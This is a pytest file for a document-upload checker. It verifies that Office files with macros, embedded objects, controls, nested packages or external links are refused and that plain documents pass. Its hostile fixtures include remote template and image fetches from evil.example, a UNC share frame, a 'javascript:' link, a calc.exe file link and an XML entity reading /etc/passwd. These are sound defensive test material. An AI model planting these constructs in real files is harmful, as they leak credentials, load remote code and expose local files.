"""Office files are judged by what they hold: nothing that runs, embeds or fetches gets in."""

from __future__ import annotations

import io

import pytest

from forms import FileStore, UploadRefused, receive
from forms.contents import Unfit, identify
from tests.forms import files

OLE = files.compound("Ole10Native")
HYPERLINK, IMAGE, TEMPLATE, FRAME = "hyperlink", "image", "attachedTemplate", "frame"


def with_relations(kind: str, target: str, mode: str = "External") -> bytes:
    return files.office(files.DOCX, {"word/_rels/document.xml.rels": files.relations(kind, target, mode)})


HOSTILE = {
    "a macro that no content type declares": files.office(files.DOCX, {"word/vbaProject.bin": OLE}),
    "a macro under another name": files.office(files.DOCX, {"word/theme/colours.xml": OLE}),
    "a macro that is only related to": with_relations("vbaProject", "colours.xml", "Internal"),
    "an embedded object": files.office(files.DOCX, {"word/embeddings/oleObject1.bin": OLE}),
    "a control": files.office(files.PPTX, {"ppt/activeX/activeX1.xml": b"<x/>"}),
    "a template that is fetched": with_relations(TEMPLATE, "https://evil.example/t.dotm"),
    "a picture that is fetched": with_relations(IMAGE, "https://evil.example/pixel.png"),
    "a frame of a share": with_relations(FRAME, r"\\evil.example\share\a.docx"),
    "a link that runs": with_relations(HYPERLINK, "javascript:alert(1)"),
    "a link to a local program": with_relations(HYPERLINK, "file:///c:/windows/system32/calc.exe"),
    "relations with entities": files.office(
        files.DOCX,
        {"_rels/.rels": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>'},
    ),
    "a workbook with a macro inside": files.office(
        files.PPTX, {"ppt/embeddings/book.xlsx": files.office(files.XLSX, {"xl/vbaProject.bin": OLE})}
    ),
    "packages in packages": files.office(
        files.PPTX,
        {"ppt/embeddings/a.xlsx": files.office(files.XLSX, {"xl/b.xlsx": files.office(files.XLSX)})},
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_active_content_is_found_wherever_it_hides(what: str) -> None:
    with pytest.raises(Unfit) as unfit:
        identify(io.BytesIO(HOSTILE[what]))
    assert unfit.value.found == "active"


@pytest.mark.parametrize("storage", ["Macros", "_VBA_PROJECT_CUR", "ObjectPool"])
def test_macros_and_objects_of_the_old_formats_are_found(storage: str) -> None:
    with pytest.raises(Unfit) as unfit:
        identify(io.BytesIO(files.compound(storage)))
    assert unfit.value.found == "active"


def test_the_refusal_says_what_was_found() -> None:
    with pytest.raises(UploadRefused) as refused:
        receive(
            FileStore("memory://office"),
            io.BytesIO(HOSTILE["a macro that no content type declares"]),
            name="方案.docx",
            profile="case_document",
        )
    assert "含宏、嵌入对象或外部引用的 Office 文件" in refused.value.message("zh-CN")


HONEST = {
    "a document": files.office(files.DOCX, {"word/document.xml": b"<w/>"}),
    "a link that a reader may follow": with_relations(HYPERLINK, "https://www.gov.cn/"),
    "a link to an address": with_relations(HYPERLINK, "mailto:office@example.cn"),
    "a part of its own": with_relations("styles", "styles.xml", "Internal"),
    "a chart with its workbook": files.office(
        files.PPTX, {"ppt/embeddings/book.xlsx": files.office(files.XLSX)}
    ),
}


@pytest.mark.parametrize("what", HONEST)
def test_what_is_only_a_document_is_taken(what: str) -> None:
    assert identify(io.BytesIO(HONEST[what])).startswith("application/vnd.openxmlformats")
